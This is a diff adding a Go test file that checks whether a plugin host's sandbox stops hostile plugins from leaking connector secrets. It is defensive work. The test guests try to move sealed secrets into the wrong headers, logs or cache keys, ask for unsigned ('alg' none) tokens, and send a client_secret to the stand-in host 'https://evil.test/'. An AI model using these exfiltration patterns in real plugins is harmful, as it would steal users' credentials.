@@ -1,0 +1,301 @@
+package host_test
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net/http"
+	"strings"
+	"testing"
+
+	"github.com/keywright/keywright/host"
+	"github.com/keywright/keywright/host/internal/testhook"
+	"github.com/keywright/keywright/internal/abi"
+)
+
+// Plugins that go wrong, or want what they may not have: threats.md, Sandbox and Secrets, and decisions.md "the plugin
+// fails, …, or answers nonsense". What a module does at the border of WebAssembly is tested in package sandbox.
+
+// misused is a connector's configuration for the guests of this file. Its secrets are canaries.
+var misused = config{
+	"to_header": "{{ get_secret('s') }}", "to_query": "{{ get_secret('s') }}", "to_token": "{{ get_secret('s') }}",
+	"to_claim": "{{ get_secret('s') }}", "nowhere": "{{ get_secret('s') }}", "key": "{{ get_secret('k') }}",
+	"url": tokenURL, "text": "plain {{ get_secret('text') }}", "claims": config{"sub": "{{ get_secret('text') }}"},
+}
+
+func misusing(do func(abi.Env) (string, error)) *guest {
+	g := &guest{authenticate: do}
+	g.about.Uses = abi.Groups
+	g.about.Fields = []abi.Field{
+		sealedField("to_header", abi.SinkHeader), sealedField("to_query", abi.SinkQuery), sealedField("to_token", abi.SinkToken),
+		sealedField("to_claim", abi.SinkClaim), sealedField("nowhere"),
+		{Name: "key", Kind: abi.KindKey, AlgorithmField: "algorithm"},
+		{Name: "algorithm", Kind: abi.KindString, Enum: algorithms, Default: "HS256"},
+		{Name: "url", Kind: abi.KindURL, Sinks: []string{abi.SinkToken}},
+		{Name: "text", Kind: abi.KindString},
+		{Name: "claims", Kind: abi.KindObject, Sinks: []string{abi.SinkClaim}},
+	}
+	return g
+}
+
+// misusedWorld is a world with one plugin, a guest that does this, and the secrets of its configuration. It has none of
+// the built-in plugins, which take their time to compile.
+func misusedWorld(t *testing.T, do func(abi.Env) (string, error), grants ...string) *world {
+	t.Helper()
+	w := makeWorld(testhook.WithoutBuiltIns(context.Background()), t, withGuest(misusing(do), grants...))
+	for _, name := range []string{"s", "k", "text"} {
+		w.canary(name)
+	}
+	return w
+}
+
+// misuse is a case of the tests: what a guest does, and how the request must fail.
+type misuse struct {
+	name  string
+	do    func(env abi.Env) (string, error)
+	stage host.Stage
+	words string
+}
+
+func refuseAll(t *testing.T, cases []misuse, grants ...string) {
+	t.Helper()
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			w := misusedWorld(t, c.do, grants...)
+			connector := w.connect("custom", misused)
+			r := get(t.Context())
+			r.Header.Set("X-Caller", "the-caller")
+			w.refuse(connector, r, c.stage, c.words)
+			if w.exchanged() != 0 {
+				t.Errorf("%s was sent to the token endpoint", w.lastExchange().body)
+			}
+		})
+	}
+}
+
+// gives is a guest that gives a mutation without a look at anything.
+func gives(output string) func(abi.Env) (string, error) {
+	return func(abi.Env) (string, error) { return output, nil }
+}
+
+func tokenRequest(env abi.Env, url string, form ...abi.Pair) (string, error) {
+	env.TokenRequest([]byte(marshal(abi.TokenRequest{URL: url, Form: form})))
+	return header("X-Key", value(env, "to_header")), nil
+}
+
+func sign(env abi.Env, r abi.JWTRequest[map[string]any]) string {
+	if r.Claims == nil {
+		r.Claims = map[string]any{}
+	}
+	return env.JWTSign([]byte(marshal(r)))
+}
+
+func TestSealedValueWhereItDoesNotBelong_threats_15a(t *testing.T) {
+	jwt := func(env abi.Env, target string, claims map[string]any) string {
+		return sign(env, abi.JWTRequest[map[string]any]{Key: "key", For: target, Claims: claims})
+	}
+	put := func(field string, place func(string, string) string) func(abi.Env) (string, error) {
+		return func(env abi.Env) (string, error) { return place("X-Key", value(env, field)), nil }
+	}
+	var cases []misuse
+	for _, field := range []string{"to_query", "to_token", "to_claim", "nowhere", "key", "text", "url"} {
+		cases = append(cases, misuse{field + " into a header", put(field, header), host.StagePlugin, ""})
+		if field == "url" { // literal here, and so no sealed value
+			cases[len(cases)-1].stage, cases[len(cases)-1].words = host.StageMutation, "no credential"
+		}
+	}
+	for _, field := range []string{"to_header", "to_token", "to_claim", "nowhere", "key", "text"} {
+		cases = append(cases, misuse{field + " into the query", put(field, query), host.StagePlugin, "do not reach"})
+	}
+	for _, field := range []string{"to_header", "to_query", "to_claim", "nowhere", "key", "text"} {
+		cases = append(cases, misuse{field + " to the token endpoint", func(env abi.Env) (string, error) {
+			return tokenRequest(env, tokenURL, abi.Pair{Name: "f", Value: value(env, field)})
+		}, host.StagePlugin, "do not reach"})
+	}
+	for _, field := range []string{"to_header", "to_token", "nowhere", "key", "text"} {
+		cases = append(cases, misuse{field + " into a claim", func(env abi.Env) (string, error) {
+			return header("X-Key", jwt(env, abi.ForHeader, map[string]any{"x": map[string]any{"y": []any{value(env, field)}}})), nil
+		}, host.StagePlugin, "do not reach"})
+	}
+	cases = append(cases, []misuse{
+		{"an assertion to the API", func(env abi.Env) (string, error) { return header("X-Key", jwt(env, abi.ForToken, nil)), nil }, host.StagePlugin, "do not reach"},
+		{"a JWT for the API to the token endpoint", func(env abi.Env) (string, error) {
+			return tokenRequest(env, tokenURL, abi.Pair{Name: "assertion", Value: jwt(env, abi.ForHeader, nil)})
+		}, host.StagePlugin, "do not reach"},
+		{"into the name of a claim", func(env abi.Env) (string, error) {
+			return header("X-Key", jwt(env, abi.ForHeader, map[string]any{value(env, "to_claim"): 1})), nil
+		}, host.StagePlugin, "only plain text"},
+		{"into a log line", func(env abi.Env) (string, error) { env.Log(abi.LevelInfo, value(env, "to_header")); return "", nil }, host.StagePlugin, "a log line"},
+		{"into an error", func(env abi.Env) (string, error) { return "", errors.New("x " + value(env, "to_header")) }, host.StagePlugin, "was dropped"},
+		{"into a cache key", func(env abi.Env) (string, error) { env.CacheGet(value(env, "to_header")); return "", nil }, host.StagePlugin, "a cache key"},
+		{"into a cache key that is set", func(env abi.Env) (string, error) { env.CacheSet("k"+value(env, "to_header"), "v", 9); return "", nil }, host.StagePlugin, "a cache key"},
+		{"into data to be signed", func(env abi.Env) (string, error) {
+			return header("X-Key", env.MAC(abi.MACSHA256, value(env, "key"), value(env, "to_header"))), nil
+		}, host.StagePlugin, "the data of mac"},
+		{"as a key", func(env abi.Env) (string, error) {
+			return header("X-Key", env.MAC(abi.MACSHA256, value(env, "to_header"), "data")), nil
+		}, host.StagePlugin, "the key of mac"},
+		{"a mixture has the sinks that all share", func(env abi.Env) (string, error) {
+			return header("X-Key", env.Encode(abi.FormatBase64, value(env, "to_header")+value(env, "to_query"))), nil
+		}, host.StagePlugin, "do not reach"},
+		{"encoded, it keeps its sinks", func(env abi.Env) (string, error) {
+			return header("X-Key", env.Encode(abi.FormatHex, value(env, "to_token"))), nil
+		}, host.StagePlugin, "do not reach"},
+		{"through the cache, it keeps its sinks", func(env abi.Env) (string, error) {
+			env.CacheSet("k", value(env, "to_token"), 60)
+			cached, _ := env.CacheGet("k")
+			return header("X-Key", cached), nil
+		}, host.StagePlugin, "do not reach"},
+		{"by the name of its secret, it has the sinks of its fields", func(env abi.Env) (string, error) {
+			return header("X-Key", env.SecretGet("k")), nil
+		}, host.StagePlugin, "do not reach"},
+	}...)
+	refuseAll(t, cases)
+}
+
+func TestNoCredential_threats_15b(t *testing.T) {
+	stale := ""
+	refuseAll(t, []misuse{
+		{"forgotten", gives(`{}`), host.StageMutation, "no credential"},
+		{"a header without it", gives(header("X-Key", "v")), host.StageMutation, "no credential"},
+		{"put to use at the token endpoint only", func(env abi.Env) (string, error) {
+			env.Encode(abi.FormatBase64, value(env, "to_header"))
+			return header("X-Key", "v"), nil
+		}, host.StageMutation, "no credential"},
+		{"a reference that is encoded", func(env abi.Env) (string, error) {
+			return header("X-Key", fmt.Sprintf("%x", value(env, "to_header"))), nil
+		}, host.StageMutation, "no credential"},
+		{"a reference of nothing", gives(header("X-Key", abi.SealedPrefix+strings.Repeat("a", abi.SealedLength))), host.StagePlugin, "none of this call"},
+		{"a reference that is cut", func(env abi.Env) (string, error) {
+			return header("X-Key", value(env, "to_header")[:20]), nil
+		}, host.StageMutation, "no credential"},
+		{"two headers of one name", func(env abi.Env) (string, error) {
+			v := value(env, "to_header")
+			return marshal(abi.Mutation{Headers: []abi.Pair{{Name: "X-Key", Value: v}, {Name: "x-key", Value: v}}}), nil
+		}, host.StageMutation, "twice"},
+	})
+	w := misusedWorld(t, func(env abi.Env) (string, error) {
+		if stale == "" {
+			stale = value(env, "to_header")
+		}
+		return header("X-Key", stale), nil
+	})
+	c := w.connect("custom", misused)
+	w.get(c)
+	w.refuse(c, get(t.Context()), host.StagePlugin, "none of this call")
+}
+
+func TestRequestDataStaysWithItsRequest_threats_15c(t *testing.T) {
+	refuseAll(t, []misuse{
+		{"to another caller", func(env abi.Env) (string, error) {
+			env.CacheSet("k", string(env.Input()), 60)
+			return header("X-Key", value(env, "to_header")), nil
+		}, host.StagePlugin, "after the request was read"},
+		{"to the token endpoint", func(env abi.Env) (string, error) {
+			return tokenRequest(env, tokenURL, abi.Pair{Name: "x", Value: string(env.Input())})
+		}, host.StagePlugin, "after the request was read"},
+	})
+}
+
+func TestInputHasNoCredentials(t *testing.T) {
+	seen := ""
+	w := misusedWorld(t, func(env abi.Env) (string, error) {
+		seen = string(env.Input())
+		return header("X-Key", value(env, "to_header")), nil
+	})
+	secret := w.secrets["s"]
+	r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "https://me:pw@api.test/a?b=c#f", strings.NewReader("body"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r.Header = http.Header{
+		"Authorization": {"a-caller"}, "cookie": {"a-cookie"}, "Proxy-Authorization": {"a-proxy"}, "X-Plain": {"p"},
+		"X-One": {secret}, "X-Two": {"x" + secret, secret}, // as the platform may have put it there
+	}
+	for i := range 40 {
+		r.Header.Add(fmt.Sprint("X-Many-", i), secret)
+	}
+	w.send(w.connect("custom", misused), r)
+	w.out("the guest's input", seen)
+	for _, bad := range []string{"a-caller", "a-cookie", "a-proxy", "pw@"} {
+		if strings.Contains(seen, bad) {
+			t.Errorf("the guest sees %q", bad)
+		}
+	}
+	for _, good := range []string{`"method":"POST"`, `"url":"https://api.test/a?b=c#f"`, `{"name":"X-Plain","value":"p"}`, `"body_sha256":"230d8358dc8e8890b4c58deeb62912ee2f20357ae92a5cc861b98e68fe31acb5"`} {
+		if !strings.Contains(seen, good) {
+			t.Errorf("the guest does not see %s in %s", good, seen)
+		}
+	}
+}
+
+func TestSecretsThatAreNotTheConnectors_threats_16(t *testing.T) {
+	refuseAll(t, []misuse{
+		{"a secret of another connector", func(env abi.Env) (string, error) { return header("X-Key", env.SecretGet("other")), nil }, host.StagePlugin, "does not name"},
+		{"no name", func(env abi.Env) (string, error) { return header("X-Key", env.SecretGet("")), nil }, host.StagePlugin, "does not name"},
+	})
+	named := func(env abi.Env) (string, error) { return header("X-Key", env.SecretGet("s")), nil }
+	g := misusing(named)
+	g.about.Uses = nil
+	w := newWorld(t, withGuest(g))
+	for _, name := range []string{"s", "k", "text"} {
+		w.canary(name)
+	}
+	w.refuse(w.connect("custom", misused), get(t.Context()), host.StagePlugin, `"secret" in uses`)
+	w = misusedWorld(t, named)
+	if got := w.get(w.connect("custom", misused)).header.Get("X-Key"); got != w.secrets["s"] {
+		t.Error("a secret that the configuration names is not given")
+	}
+}
+
+func TestSecretsSentElsewhere_threats_18(t *testing.T) {
+	elsewhere := func(url string) func(abi.Env) (string, error) {
+		return func(env abi.Env) (string, error) {
+			return tokenRequest(env, url, abi.Pair{Name: "client_secret", Value: value(env, "to_token")})
+		}
+	}
+	var cases []misuse
+	for _, url := range []string{"https://evil.test/", tokenURL + "/x", tokenURL + "?a", "https://login.test", "", "HTTPS://login.test/token", apiURL} {
+		cases = append(cases, misuse{"another token URL: " + url, elsewhere(url), host.StagePlugin, "field of the configuration"})
+	}
+	refuseAll(t, append(cases, misuse{"a secret in the token URL's query", func(env abi.Env) (string, error) {
+		return tokenRequest(env, tokenURL+"?x="+value(env, "to_token"))
+	}, host.StagePlugin, "field of the configuration"}))
+}
+
+func TestSigningOracle_threats_11(t *testing.T) {
+	ask := func(r abi.JWTRequest[map[string]any]) func(abi.Env) (string, error) {
+		return func(env abi.Env) (string, error) { return header("X-Key", sign(env, r)), nil }
+	}
+	type jwt = abi.JWTRequest[map[string]any]
+	refuseAll(t, []misuse{
+		{"a field that is no key", ask(jwt{Key: "to_header", For: abi.ForHeader}), host.StagePlugin, "kind key"},
+		{"a field that is none", ask(jwt{Key: "other", For: abi.ForHeader}), host.StagePlugin, "kind key"},
+		{"another algorithm", ask(jwt{Key: "key", For: abi.ForHeader, Header: map[string]any{"alg": "none"}}), host.StageSign, `"alg" may not be set`},
+		{"another place", ask(jwt{Key: "key", For: "log"}), host.StagePlugin, "neither"},
+		{"nonsense", func(env abi.Env) (string, error) { return header("X-Key", env.JWTSign([]byte(`{"key":1}`))), nil }, host.StagePlugin, "jwt_sign"},
+		{"two members of one name: threats.md 39", func(env abi.Env) (string, error) {
+			return header("X-Key", env.JWTSign([]byte(`{"key":"key","for":"header","claims":{"sub":"a","sub":"b"}}`))), nil
+		}, host.StagePlugin, "two members"},
+		{"raw signatures without the grant", func(env abi.Env) (string, error) { return header("X-Key", string(env.Sign("key", "data"))), nil }, host.StagePlugin, `"sign_raw"`},
+		{"reveal without the grant", func(env abi.Env) (string, error) {
+			return header("X-Key", string(env.Reveal(value(env, "to_header")))), nil
+		}, host.StagePlugin, `"reveal"`},
+	})
+}
+
+func TestGrants_threats_11(t *testing.T) {
+	w := misusedWorld(t, func(env abi.Env) (string, error) {
+		env.Log(abi.LevelInfo, "found "+string(env.Reveal(value(env, "nowhere"))))
+		return header("X-Key", fmt.Sprintf("%x", env.Sign("key", "data"))), nil
+	}, abi.GrantReveal, abi.GrantSignRaw)
+	if got := w.get(w.connect("custom", misused)).header.Get("X-Key"); len(got) != 64 {
+		t.Errorf("the signature is %q", got)
+	}
+	if w.logged("found <sealed>") != 1 {
+		t.Errorf("what was revealed is not scrubbed from the log: %s", w.log())
+	}
+	refuseAll(t, []misuse{{"an error with what was revealed", func(env abi.Env) (string, error) {
+		return "", fmt.Errorf("found %s", env.Reveal(value(env, "nowhere")))
+	}, host.StagePlugin, "found <sealed>"}}, abi.GrantReveal)
+}
